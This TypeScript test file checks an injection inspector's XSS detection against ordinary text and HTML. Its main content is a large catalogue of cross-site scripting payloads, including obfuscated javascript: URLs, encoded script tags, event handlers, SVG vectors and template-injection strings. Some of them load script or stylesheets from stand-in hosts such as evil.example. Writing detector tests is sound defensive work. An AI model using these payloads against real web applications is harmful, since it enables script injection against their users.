import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from '../create-injection-inspector.js';

const inspector = createInjectionInspector();
const fires = (value: string) => inspector.inspectValue(value, 'query.q').some((h) => h.class === 'xss');

describe('xss detector', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(document.domain) x='",
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    'java\tscript:alert(1)',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<div style="background:url(javascript:alert(1))">',
    "';alert(String.fromCharCode(88,83,83))//",
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#x6a;avascript:alert(1)',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '＜script＞alert(1)＜/script＞',
    '<!--#exec cmd="ls"-->',
  ])('fires on %j', (value) => {
    expect(fires(value)).toBe(true);
  });

  it.each([
    'a < b and c > d holds',
    'JavaScript: The Good Parts',
    'I love this! <3',
    'Use <b>bold</b> and <i>italic</i>',
    'price < 10 && rating > 4',
    'online=true',
    'See https://example.com/path?x=1&y=2',
    'the document was signed',
  ])('does not fire on %j', (value) => {
    expect(fires(value)).toBe(false);
  });

  it('reports formatting tags only at paranoia 3', () => {
    const strict = createInjectionInspector({ paranoia: 3 });
    expect(strict.inspectValue('Use <b>bold</b>', 'body./text').some((h) => h.class === 'xss')).toBe(true);
  });
});

describe('xss detector: namespaced and spaced tags, parenthesis-free calls, hidden schemes', () => {
  const rule = (value: string) =>
    inspector.inspectValue(value, 'query.q').find((h) => h.class === 'xss')?.ruleId;

  it.each([
    ['<svg:script>alert(1)</svg:script>', 'xss-dangerous-tag'],
    ['< v: vmlframe src=x>', 'xss-dangerous-tag'],
    ['<s c r i p t>', 'xss-spaced-tag'],
    ['[].map.call`${alert}`', 'xss-script-sink'],
    ['document .cookie', 'xss-script-sink'],
    ['jav&#x09;ascript:alert(1)', 'xss-script-url'],
    ['<style>@import "//evil.example/x.css"</style>', 'xss-css-script'],
    ['<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">', 'xss-script-url'],
    ['<x xmlns="http://www.w3.org/1999/xhtml" a="b">', 'xss-namespace-attribute'],
    ['(![]+[])[+[]]', 'xss-jsfuck'],
  ])('fires on %j (%s)', (value, ruleId) => {
    expect(rule(value)).toBe(ruleId);
  });

  it.each([
    '1. Call `GET /orders`\n2. Check `items.length`',
    'Use the data: field for details',
    'a < b and c > d',
    'JavaScript: The Good Parts',
    'documents.pdf',
  ])('does not fire on %j', (value) => {
    expect(fires(value)).toBe(false);
  });

  it('accepts namespaces in a whole XML body but not in a field', () => {
    const feed = '<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title></feed>';
    expect(inspector.inspect({ body: feed }).filter((h) => h.class === 'xss')).toEqual([]);
  });

  it('does not read a file name as script', () => {
    expect(inspector.inspect({ headers: { 'x-filename': 'document.pdf' } })).toEqual([]);
  });
});

describe('xss detector: markup read attribute by attribute', () => {
  const rule = (value: string, location = 'query.q') =>
    inspector.inspectValue(value, location).find((h) => h.class === 'xss')?.ruleId;

  it.each([
    ['<a href=" &#14; javascript:alert(1)">x</a>', 'xss-script-url'],
    ['<svg><animate attributeName=href values=javascript:alert(1) />', 'xss-script-url'],
    ['<svg><set attributeName=onmouseover to=alert(1)>', 'xss-svg-animation'],
    ['<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', 'xss-dangerous-tag'],
    ['<form><button formaction=https://evil.example>go</button>', 'xss-form-action'],
    ['<div style="width: expr/**/ession(alert(1))">', 'xss-css-script'],
    ['<style>=\\65 xpression</style>', 'xss-css-script'],
    ['<style>@import "https://evil.example/x.css";</style>', 'xss-css-script'],
    ['<x oncustomevent=go()>', 'xss-event-handler'],
    ['"><b>bold</b>', 'xss-context-breakout'],
    ['--><img src=x>', 'xss-context-breakout'],
    ['</textarea><img src=x>', 'xss-context-breakout'],
    ['\\xbcscript\\xbealert(1)\\xbc/script\\xbe', 'xss-ascii7-markup'],
    ['<?import namespace="t" implementation="#default#time2">', 'xss-active-attribute'],
    ['  onanything= ', 'xss-event-handler'],
    ['javascript: \\u0061lert(1)', 'xss-script-url'],
  ])('fires on %j (%s)', (value, ruleId) => {
    expect(rule(value)).toBe(ruleId);
  });

  it.each([
    '<div class="card" style="color: red; margin: 4px">Note</div>',
    '<a href="https://example.com/docs" title="Docs">the docs</a>',
    '<img src="https://cdn.example.com/a.png" alt="A photo" width="120">',
    '<style>.a { color: red }</style>',
    '<input type="checkbox" checked> done',
    'The onboarding=complete flag',
    'See section 3 --> then section 4',
    '¼ cup sugar and ¾ cup flour',
    'javascript: "the good parts" review',
  ])('does not fire on %j', (value) => {
    expect(fires(value)).toBe(false);
  });

  it('keeps the tags of a whole XML document out of the context-breakout rule', () => {
    const feed = '<feed><entry><title>A</title></entry></feed>';
    expect(inspector.inspect({ body: feed }).filter((h) => h.class === 'xss')).toEqual([]);
  });
});

describe('xss detector: a catalogue of well-known vectors, and ordinary HTML and text (paranoia 1)', () => {
  // Written for this detector from the usual XSS filter-evasion families (event handlers, obfuscated script URLs,
  // svg/math/iframe, entity and escape encodings, CSS, data: URLs, template expressions, attribute and context
  // breaking), not taken from the CRS corpus the benchmark replays.
  const VECTORS: readonly string[] = [
    '<img src=x onerror=alert(1)>',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<iframe src=http://xss.rocks/scriptlet.html <',
    '<svg><script>alert(1)</script>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<div style="width: expression(alert(1));">',
    '<div style="background-image: url(javascript:alert(1))">',
    '<div style="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
    '<xss style="behavior: url(xss.htc);">',
    '<div style="-moz-binding:url(http://evil/xss.xml#xss)">',
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) "',
    '"><svg onload=alert(1)>',
    "'><script>alert(1)</script>",
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java%0ascript:alert(1)',
    'javascript&colon;alert(1)',
    '&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)',
    '<a href="jav\tascript:alert(1)">',
    '<a href=" javascript:alert(1)">',
    '<a href="&#14;javascript:alert(1)">',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<audio src=x onerror=alert(1)>',
    '<body onpageshow=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>',
    '<form><button formaction=javascript:alert(1)>X</button>',
    '<form action=javascript:alert(1)><input type=submit>',
    '<isindex action=javascript:alert(1) type=image>',
    '<base href="javascript:alert(1)//">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<table background="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<x onclick=alert(1)>click',
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    '<img/src=x/onerror=alert(1)>',
    '<img\tsrc=x\tonerror=alert(1)>',
    '<img src=x onerror=\\u0061lert(1)>',
    '<img src=x oNeRrOr=alert`1`>',
    "<svg/onload=location='javascript:alert(1)'>",
    "<svg onload=eval(atob('YWxlcnQoMSk='))>",
    '<a href=javas&#99;ript:alert(1)>',
    '<a href="javascript&#58alert(1)">',
    '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
    '%253Csvg%2520onload%253Dalert(1)%253E',
    '&lt;img src=x onerror=alert(1)&gt;',
    '\\x3cimg src=x onerror=alert(1)\\x3e',
    '\\u003csvg onload=alert(1)\\u003e',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<style>@import 'http://evil/xss.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<style>li {list-style-image: url("javascript:alert(\'XSS\')");}</style><ul><li>XSS</li></ul>',
    '<object type="text/x-scriptlet" data="http://evil/scriptlet.html"></object>',
    '<applet code="javascript:alert(1)">',
    '<frameset onload=alert(1)>',
    '<portal src=javascript:alert(1)>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<div onpointerover="alert(1)">MOVE HERE</div>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<script>alert(1)</script>',
    '<script src=data:,alert(1)></script>',
    '<iframe src="javascript:alert(1)">',
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    '<svg><script>&#97;lert(1)</script>',
    '<svg><set attributeName=onmouseover to=alert(1)>',
    '<svg><animate attributeName=href to=javascript:alert(1)>',
    '"><iframe src=javascript:alert(1)>',
    "';alert(1)//",
    '";alert(1);//',
    '</script><script>alert(1)</script>',
    '${alert(1)}',
    "<img src=x onerror=window['al'+'ert'](1)>",
    '<img src=x onerror=top[8680439..toString(30)](1)>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    "document.write('<b>')",
    'window.location',
    "'--><script>",
    '--><img src=x>',
    'data:text/html;base64,PHNjcmlwdD4=',
    '<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>',
    '"><!--',
    '<x/onclick=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style>',
    '<a href="javas\\tcript:alert(1)">',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">',
    '<object data="javascript:alert(1)">',
    '<div style="background:url(&#1;javascript:alert(1))">',
  ];
  const ORDINARY: readonly string[] = [
    '<a href="https://example.com/docs">the docs</a>',
    '<img src="https://cdn.example.com/a.png" alt="A photo">',
    '<p>Hello <b>world</b></p>',
    '<a href="/users/42" title="Profile">Profile</a>',
    '<img src="/img/logo.svg" width="120" height="40">',
    '<div class="card" style="color: red; margin: 4px">Note</div>',
    '<span style="font-weight:bold">Sale</span>',
    '<blockquote cite="https://example.org">Quote</blockquote>',
    '<a href="mailto:someone@example.com">mail me</a>',
    '<table><tr><td>1</td><td>2</td></tr></table>',
    '<ul><li>One</li><li>Two</li></ul>',
    '<input type="checkbox" checked> done',
    'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>',
    '<code>if (a < b) { x = "y"; }</code>',
    'See section 3 --> then section 4',
    'I think 2 < 3 and 5 > 4',
    'The onboarding=complete flag',
    'JavaScript: The Good Parts',
    'javascript: "the good parts" review',
    'Tips & tricks: use \' and " carefully',
    '"Hello," she said, \'world\'',
    'price=10&qty=2',
    '<br/>',
    '<hr>',
    '<em>really</em> <strong>important</strong>',
    '<style>.a { color: red }</style>',
    '<!-- comment -->',
    '<h1 id="title">Title</h1>',
    '<video controls src="https://cdn.example.com/v.mp4"></video>',
    '<form> is an HTML element',
    'Use the <input> element for text fields',
    '{{ user.name }}',
    '{{ title | upper }}',
    'The style=compact option',
    '¼ cup sugar and ¾ cup flour',
    '"x" on top',
    '<a href="https://example.com?a=1&amp;b=2">link</a>',
  ];
  const xss = (value: string) => inspector.inspectValue(value, 'body./text').some((h) => h.class === 'xss');

  it.each(VECTORS)('fires on %j', (value) => {
    expect(xss(value)).toBe(true);
  });

  it.each(ORDINARY)('does not fire on %j', (value) => {
    expect(xss(value)).toBe(false);
  });
});
